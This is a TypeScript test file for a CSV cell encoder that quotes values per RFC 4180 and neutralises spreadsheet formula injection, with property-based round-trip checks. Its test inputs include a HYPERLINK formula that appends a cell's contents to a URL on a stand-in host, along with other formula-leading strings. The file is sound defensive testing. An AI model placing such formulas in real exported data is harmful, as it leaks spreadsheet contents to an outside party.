import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvRow } from './csv-cell';

/** A minimal RFC 4180 reader for one line of cells, to read back what csvRow wrote. */
function parseRow(line: string): string[] {
  const cells: string[] = [];
  let i = 0;
  for (;;) {
    let cell = '';
    if (line[i] === '"') {
      i++;
      for (;;) {
        const q = line.indexOf('"', i);
        if (q < 0) throw new Error('unterminated quote');
        cell += line.slice(i, q);
        i = q + 1;
        if (line[i] === '"') {
          cell += '"';
          i++;
        } else break;
      }
    } else {
      const c = line.indexOf(',', i);
      const end = c < 0 ? line.length : c;
      cell = line.slice(i, end);
      if (/["\r\n]/.test(cell)) throw new Error(`unquoted special in ${JSON.stringify(cell)}`);
      i = end;
    }
    cells.push(cell);
    if (i >= line.length) return cells;
    if (line[i] !== ',') throw new Error(`expected comma at ${i}`);
    i++;
  }
}

describe('csvCell', () => {
  it('neutralises every formula start, including those only a tab or CR hides', () => {
    expect(csvCell('=HYPERLINK("http://x?a="&A1,"点我")')).toBe(`"'=HYPERLINK(""http://x?a=""&A1,""点我"")"`);
    expect(csvCell('@A1')).toBe("'@A1");
    expect(csvCell('+86 10 1234')).toBe("'+86 10 1234");
    expect(csvCell('-1+1')).toBe("'-1+1");
    expect(csvCell('\t=1')).toBe("'\t=1");
    expect(csvCell('\r=1')).toBe(`"'\r=1"`);
  });

  it('leaves ordinary text, numbers and empties alone', () => {
    expect(csvCell('长江口 产业')).toBe('长江口 产业');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell(-3)).toBe('-3');
    expect(csvCell(12)).toBe('12');
    expect(csvCell(null)).toBe('');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(Number.NaN)).toBe('');
  });

  it('quotes commas, quotes and line breaks (RFC 4180)', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('a\nb')).toBe('"a\nb"');
  });

  it('property: any row reads back cell for cell, and no cell starts a formula', () => {
    const hostile = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ',', '"', "'", 'a', '中') }),
    );
    fc.assert(
      fc.property(fc.array(hostile, { minLength: 1, maxLength: 6 }), (cells) => {
        const back = parseRow(csvRow(cells));
        expect(back).toHaveLength(cells.length);
        back.forEach((cell, i) => {
          expect(cell).not.toMatch(/^[=+\-@\t\r]/);
          const original = cells[i]!;
          expect(cell === original || cell === `'${original}`).toBe(true);
        });
      }),
    );
  });
});
